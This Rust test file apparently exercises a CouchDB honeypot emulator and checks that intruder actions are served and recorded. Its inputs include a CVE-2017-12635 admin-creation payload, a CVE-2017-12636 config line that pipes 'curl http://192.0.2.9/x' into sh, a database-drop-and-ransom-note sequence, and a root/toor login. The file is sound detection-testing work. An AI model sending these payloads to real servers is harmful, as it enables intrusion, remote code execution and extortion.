//! What clients and intruders do, from the first request to the note.

use super::SERVICE;
use netsvc_kit::{
    Action,
    testing::{converse, host, link, persona_with, sent, stage},
};
use netsvc_wire::{Kind, field};

fn talk(version: &str, settings: &[(&str, &str)], said: &[String]) -> (String, Vec<(Kind, String)>) {
    let folder = tempfile::tempdir().unwrap();
    let stage = stage(folder.path());
    let mut persona = persona_with(&SERVICE, "couch-01");
    persona.products.get_mut("couchdb").unwrap().version = version.to_owned();
    let host = host(&stage, persona, SERVICE.slug, settings);
    let pieces: Vec<&[u8]> = said.iter().map(|piece| piece.as_bytes()).collect();
    let actions = converse(&SERVICE, &host, &link(5984), &pieces);
    let told = actions.iter().filter_map(|action| match action {
        Action::Record(kind, fields) | Action::Capture(kind, fields, _) => {
            let names = [field::TECHNIQUE, field::PRINCIPAL, field::COMMAND, field::TARGET];
            let value = names.iter().find_map(|name| fields.iter().find(|(known, _)| known == name));
            Some((
                *kind,
                value.map(|(_, value)| String::from_utf8_lossy(value).into_owned()).unwrap_or_default(),
            ))
        }
        _ => None,
    });
    (String::from_utf8_lossy(&sent(&actions)).into_owned(), told.collect())
}

fn ask(method: &str, target: &str, body: &str) -> String {
    let kind = if body.is_empty() { "" } else { "Content-Type: application/json\r\n" };
    format!("{method} {target} HTTP/1.1\r\nHost: h\r\n{kind}Content-Length: {}\r\n\r\n{body}", body.len())
}

fn techniques(told: &[(Kind, String)]) -> Vec<&str> {
    told.iter().filter(|(kind, _)| *kind == Kind::ExploitAttempt).map(|(_, value)| value.as_str()).collect()
}

#[test]
fn each_release_says_what_it_is_and_lets_in_whom_it_does() {
    let all = ["2.3.1", "3.3.3"]
        .map(|version| talk(version, &[], &[ask("GET", "/", ""), ask("GET", "/_all_dbs", "")]));
    let [(old, _), (new, _)] = all;
    assert!(
        old.contains("Server: CouchDB/2.3.1 (Erlang OTP/19)\r\n") && old.contains("\"customers\""),
        "{old}"
    );
    assert!(
        new.contains("{\"couchdb\":\"Welcome\",\"version\":\"3.3.3\",\"git_sha\":\"40afbcfc7\",\"uuid\":\""),
        "{new}"
    );
    assert!(
        new.contains("HTTP/1.1 401 Unauthorized\r\n") && new.contains("You are not a server admin."),
        "{new}"
    );
}

#[test]
fn databases_are_read_dropped_and_held_for_ransom() {
    let note = "{\"m\":\"Your databases are backed up. Pay 0.01 BTC\"}";
    let (said, told) = talk(
        "3.3.3",
        &[("auth", "off")],
        &[
            ask("GET", "/customers/_all_docs?limit=1&include_docs=true", ""),
            ask("POST", "/customers/_find", "{\"selector\":{\"id\":{\"$gt\":46}},\"fields\":[\"id\"]}"),
            ask("DELETE", "/customers", ""),
            ask("GET", "/customers", ""),
            ask("PUT", "/read_me", ""),
            ask("POST", "/read_me", note),
        ],
    );
    assert!(said.contains("{\"total_rows\":49,\"offset\":0,\"rows\":[\r\n{\"id\":"), "{said}");
    assert!(said.contains("{\"id\":47}") && said.contains("{\"id\":48}"), "{said}");
    assert!(said.contains("{\"error\":\"not_found\",\"reason\":\"Database does not exist.\"}\n"), "{said}");
    assert_eq!(techniques(&told), ["couchdb data destruction", "database ransom note"]);
}

#[test]
fn who_names_documents_gets_a_row_for_each_name_in_their_order() {
    let said = [
        ask("PUT", "/a", ""),
        ask("PUT", "/a/x", "{}"),
        ask("PUT", "/a/b", "{}"),
        ask("POST", "/a/_all_docs", "{\"keys\":[\"x\",\"none\",\"b\",\"x\"]}"),
    ];
    let (said, _) = talk("3.3.3", &[("auth", "off")], &said);
    let rows = said.split("{\"total_rows\":2,\"offset\":null,\"rows\":[\r\n").nth(1).unwrap();
    let keys: Vec<&str> =
        rows.split("\"key\":\"").skip(1).map(|row| row.split('"').next().unwrap()).collect();
    assert_eq!(keys, ["x", "none", "b", "x"], "{said}");
    assert!(rows.contains("{\"key\":\"none\",\"error\":\"not_found\"}"), "{said}");
}

#[test]
fn a_document_has_revisions() {
    let (said, _) = talk(
        "3.3.3",
        &[("auth", "off")],
        &[
            ask("PUT", "/a", ""),
            ask("PUT", "/a/x", "{\"b\":1}"),
            ask("PUT", "/a/x", "{\"b\":2}"),
            ask("GET", "/a/x", ""),
            ask("PUT", "/a", ""),
            ask("GET", "/a/y", ""),
        ],
    );
    assert!(
        said.contains("{\"ok\":true,\"id\":\"x\",\"rev\":\"1-") && said.contains("409 Conflict"),
        "{said}"
    );
    assert!(said.contains("\"b\":1}\n") && said.contains("412 Precondition Failed"), "{said}");
    assert!(said.contains("{\"error\":\"not_found\",\"reason\":\"missing\"}"), "{said}");
}

#[test]
fn known_attacks_are_seen_whether_they_work_or_not() {
    let account =
        "{\"type\":\"user\",\"name\":\"eve\",\"roles\":[\"_admin\"],\"roles\":[],\"password\":\"p\"}";
    for (version, works) in [("2.3.1", true), ("3.3.3", false)] {
        let (said, told) = talk(
            version,
            &[],
            &[
                ask("PUT", "/_users/org.couchdb.user:eve", account),
                ask("PUT", "/_node/_local/_config/query_servers/cmd", "\"curl http://192.0.2.9/x|sh\""),
            ],
        );
        let seen =
            ["couchdb privilege escalation (CVE-2017-12635)", "couchdb command execution (CVE-2017-12636)"];
        assert_eq!(techniques(&told), seen, "{version}");
        assert_eq!(said.contains("201 Created"), works, "{said}");
        assert!(
            told.iter().any(|(kind, _)| *kind == Kind::DownloadAttempt)
                && told.contains(&(Kind::AuthAttempt, "eve".to_owned()))
        );
    }
}

#[test]
fn a_cookie_of_a_login_lets_in() {
    let login = "{\"name\":\"root\",\"password\":\"toor\"}";
    let (said, _) = talk("3.3.3", &[], &[ask("POST", "/_session", login)]);
    let (_, rest) = said.split_once("Set-Cookie: ").unwrap_or_else(|| panic!("{said}"));
    let cookie = rest.split(';').next().unwrap();
    let with = |cookie: &str| format!("GET /_all_dbs HTTP/1.1\r\nHost: h\r\nCookie: {cookie}\r\n\r\n");
    assert!(talk("3.3.3", &[], &[with(cookie)]).0.contains("\"_users\""));
    assert!(
        talk("3.3.3", &[], &[with("AuthSession=cm9vdDo2NTAwMDAwMDp4eHh4eHh4eHh4eHh4eHh4eHh4eA")])
            .0
            .contains("401")
    );
    assert!(
        talk("3.3.3", &[], &[ask("POST", "/_session", "{\"name\":\"root\",\"password\":\"x\"}")])
            .0
            .contains("Name or password is incorrect.")
    );
}
